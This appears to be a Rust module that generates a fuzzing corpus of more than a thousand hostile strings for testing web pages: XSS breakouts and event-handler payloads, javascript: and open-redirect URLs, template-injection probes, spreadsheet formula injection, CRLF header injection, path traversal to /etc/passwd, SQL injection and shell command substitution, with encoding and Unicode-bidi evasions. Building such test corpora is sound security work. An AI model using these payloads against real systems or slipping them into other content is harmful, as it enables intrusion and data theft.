//! Hostile strings, made from their parts: ways out of a context, things that run, spellings that get past a filter.
//!
//! All are of our own making. Each that runs says its number, so that what ran is known. Must not know any page.

use std::collections::BTreeSet;

/// What a text may stand in, and how to get out of there.
const WAYS_OUT: [&str; 16] = [
    "",
    "\">",
    "'>",
    "`>",
    ">",
    "\"/>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</option></select>",
    "</code></pre>",
    "</time></td></tr></table>",
    "</svg></math>",
];

/// Things that run their handler by themselves, or when somebody comes near. `¡` is what they run.
const THINGS: [&str; 34] = [
    "<img src=x onerror=¡>",
    "<img/src=x/onerror=¡>",
    "<IMG SRC=x OnErRoR=\"¡\">",
    "<svg onload=¡>",
    "<svg/onload=¡//",
    "<svg><animate onbegin=¡ attributeName=x dur=1s>",
    "<svg><set onbegin=¡ attributename=x>",
    "<svg><a xlink:href=\"javascript:¡\"><text y=9>x</text></a></svg>",
    "<svg><script>¡</script></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=¡/>#x\">",
    "<math><mi xlink:href=\"javascript:¡\">x</mi></math>",
    "<body onload=¡>",
    "<body onpageshow=¡>",
    "<input autofocus onfocus=¡>",
    "<select autofocus onfocus=¡>",
    "<textarea autofocus onfocus=¡>",
    "<details open ontoggle=¡>",
    "<video src=x onerror=¡>",
    "<audio src onloadstart=¡>",
    "<video><source onerror=¡>",
    "<marquee onstart=¡>",
    "<object data=\"javascript:¡\">",
    "<embed src=\"javascript:¡\">",
    "<iframe src=\"javascript:¡\"></iframe>",
    "<iframe srcdoc=\"<script>parent.¡</script>\"></iframe>",
    "<iframe onload=¡></iframe>",
    "<script>¡</script>",
    "<scr<script>ipt>¡</scr</script>ipt>",
    "<script src=//elsewhere.test/x.js></script>",
    "<style>@import'//elsewhere.test/x.css';*{animation:x}</style><x onanimationstart=¡>",
    "<form><button formaction=\"javascript:¡\">x</button></form>",
    "<noscript><p title=\"</noscript><img src=x onerror=¡>\">",
    "<p id=x tabindex=1 onfocusin=¡ autofocus>",
    "<template><img src=x onerror=¡></template><dialog open onclose=¡>",
];

/// What leads elsewhere or runs where an address is expected.
const ADDRESSES: [&str; 26] = [
    "javascript:¡",
    "JaVaScRiPt:¡",
    " javascript:¡",
    "java&Tab;script:¡",
    "java&NewLine;script:¡",
    "&#106;avascript:¡",
    "&#x6A;avascript:¡",
    "javascript&colon;¡",
    "javascript://%0a¡",
    "javascript://example.com/%0d%0a¡",
    "javascript:/*--></title></style></textarea></script><svg/onload=¡>",
    "javascript:`${¡}`",
    "vbscript:MsgBox(1)",
    "data:text/html,<script>¡</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=¡>",
    "blob:https://elsewhere.test/1",
    "//elsewhere.test/¡",
    "///elsewhere.test/¡",
    "/\\elsewhere.test/¡",
    "\\\\elsewhere.test\\¡",
    "https:elsewhere.test/¡",
    "https://elsewhere.test/\"onmouseover=¡//",
    "https://elsewhere.test@example.com/¡",
    "/%2F/elsewhere.test/¡",
    "/..//elsewhere.test/¡",
];

/// Around an address.
const CARRIERS: [&str; 12] = [
    "?",
    "<a href=\"?\">x</a>",
    "<a href='?' autofocus>x</a>",
    "<form action=\"?\"><input type=submit>",
    "<img src=\"?\">",
    "<link rel=stylesheet href=\"?\">",
    "<base href=\"?\">",
    "<meta http-equiv=refresh content=\"0;url=?\">",
    "[x](?)",
    "¡[x](?)",
    "<?>",
    "\" href=\"?\" x=\"",
];

/// Out of an attribute, without a new element.
const ATTRIBUTES: [&str; 14] = [
    "\" onmouseover=¡ x=\"",
    "' onmouseover=¡ x='",
    "\" autofocus onfocus=¡ x=\"",
    "' autofocus onfocus=¡ x='",
    " autofocus onfocus=¡ ",
    "x onerror=¡",
    "\" style=\"animation:x\" onanimationend=\"¡",
    "\" style=\"background:url(//elsewhere.test/x)\" x=\"",
    "\" srcdoc=\"<script>¡</script>",
    "\" formaction=\"javascript:¡",
    "\" data-window data-live=\"webhooks\" href=\"javascript:¡",
    "\" data-copy=\"<img src=x onerror=¡>",
    "\" id=content id=\"status",
    "`onload=¡`",
];

/// Out of a script, a style sheet, JSON or a template.
const TONGUES: [&str; 40] = [
    "';¡//",
    "\";¡//",
    "\\';¡//",
    "\\\";¡//",
    "`;¡//",
    "${¡}",
    "*/¡/*",
    "\u{2028}¡",
    "\u{2029}¡//",
    "-¡-",
    "'-¡-'",
    "\"-¡-\"",
    "</script><script>¡</script>",
    "<!--<script>¡//-->",
    "]}¡{[",
    "\"}]}<img src=x onerror=¡>",
    "{{7*7}}",
    "{{ 7 * 7 }}",
    "{{{7*7}}}",
    "${7*7}",
    "#{7*7}",
    "*{7*7}",
    "@{7*7}",
    "<%= 7*7 %>",
    "<%¡ %>",
    "{%7*7%}",
    "{% include \"layout.html\" %}",
    "{{ shell.account.name|safe }}",
    "{# x #}",
    "[[${7*7}]]",
    "{$smarty.version}",
    "{{constructor.constructor('¡')()}}",
    "{{x=toString.constructor;x('¡')()}}",
    "expression(¡)",
    "url(javascript:¡)",
    "}*{background:url(//elsewhere.test/x)}",
    "\\3c img src=x onerror=¡\\3e",
    "__proto__",
    "constructor",
    "<![CDATA[<img src=x onerror=¡>]]>",
];

/// What a table's program takes for a formula, and what is too much of something.
const OTHERS: [&str; 20] = [
    "=cmd|'/C calc'¡A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "=HYPERLINK(\"https://elsewhere.test\",\"x\")",
    "%00",
    "%0d%0aSet-Cookie: x=1",
    "\\r\\nLocation: //elsewhere.test",
    "../../../etc/passwd",
    "' or '1'='1",
    "'; drop table webhook; --",
    "%",
    "_%_",
    "%s%n%x",
    "$(id)",
    "`id`",
    "&lt;img src=x onerror=¡&gt;",
    "&amp;lt;img src=x onerror=¡&amp;gt;",
    "\u{0}<img src=x onerror=¡>",
    "a\u{8}\u{1b}[31mb",
];

/// What turns a text around, hides in it, or breaks out of its line.
const SCRIPTS: [&str; 22] = [
    "abc\u{202e}gpj.exe",
    "\u{202d}abc\u{202c}",
    "\u{2066}abc\u{2069}",
    "\u{2067}<img src=x onerror=¡>\u{2069}",
    "\u{200b}\u{200b}",
    "a\u{200d}b",
    "\u{feff}x",
    "\u{2060}x\u{2060}",
    "שלום (abc) 123",
    "مرحبا <b>x</b>",
    "\u{61c}abc\u{200f}",
    "Z\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}",
    "👩\u{200d}👩\u{200d}👧\u{200d}👦",
    "🏳\u{fe0f}\u{200d}🌈",
    "\u{e0041}\u{e0042}",
    "ﷺﷺﷺ",
    "＜img src=x onerror=¡＞",
    "‹img src=x onerror=¡›",
    "＂ onmouseover=¡ ＂",
    "ʺ onfocus=¡ ʺ",
    "\u{ff1c}script\u{ff1e}¡\u{ff1c}/script\u{ff1e}",
    "\u{1f1e9}\u{1f1ea}İıſK",
];

/// How a page might undo what hides a string.
fn spellings(text: &str) -> Vec<String> {
    let each = |rule: &dyn Fn(char) -> String| text.chars().map(rule).collect::<String>();
    let special = |c: char| "<>\"'`=/".contains(c);
    vec![
        text.to_owned(),
        each(&|c| if special(c) { format!("&#{};", u32::from(c)) } else { c.to_string() }),
        each(&|c| if special(c) { format!("&#x{:X}", u32::from(c)) } else { c.to_string() }),
        each(&|c| if special(c) { format!("%{:02X}", u32::from(c)) } else { c.to_string() }),
        each(&|c| if special(c) { format!("%25{:02X}", u32::from(c)) } else { c.to_string() }),
        each(&|c| if special(c) { format!("\\u{:04x}", u32::from(c)) } else { c.to_string() }),
    ]
}

/// Ways to run something that says `number`.
fn run(number: usize) -> String {
    match number % 5 {
        0 => format!("alert({number})"),
        1 => format!("xss`{number}`"),
        2 => format!("top[\"al\"+\"ert\"]({number})"),
        3 => format!("(0,alert)({number})"),
        _ => format!("alert&lpar;{number})"),
    }
}

/// All strings, each once.
pub fn all() -> Vec<String> {
    let mut forms: Vec<String> = Vec::new();
    for thing in THINGS {
        forms.extend(WAYS_OUT.iter().map(|way| format!("{way}{thing}")));
        forms.extend(spellings(thing));
    }
    for address in ADDRESSES {
        forms.extend(CARRIERS.iter().map(|carrier| carrier.replace('?', address)));
    }
    for text in ATTRIBUTES.iter().chain(&TONGUES) {
        forms.extend(spellings(text));
    }
    forms.extend(OTHERS.iter().chain(&SCRIPTS).map(|&text| text.to_owned()));
    let mut known = BTreeSet::new();
    forms.retain(|form| known.insert(form.clone()));
    forms.iter().enumerate().map(|(number, form)| form.replace('¡', &run(number))).collect()
}

/// The strings, as many as fit into each text of at most so many characters; without control characters if the field
/// takes none.
pub fn packed(most: usize, control: bool) -> Vec<String> {
    let (mut texts, mut text) = (Vec::new(), String::new());
    for string in all() {
        let string = if control { string } else { string.replace(char::is_control, "") };
        if text.chars().count() + string.chars().count() + 1 > most && !text.is_empty() {
            texts.push(std::mem::take(&mut text).trim().to_owned());
        }
        text.push_str(&string);
        text.push(' ');
    }
    texts.push(text.trim().to_owned());
    texts
}

#[test]
fn there_are_more_than_a_thousand_different_strings_that_fit_a_name() {
    let all = all();
    assert!(all.iter().collect::<BTreeSet<_>>().len() == all.len() && all.len() > 1_000, "{}", all.len());
    assert!(packed(200, false).iter().all(|text| (1..=200).contains(&text.chars().count())));
}
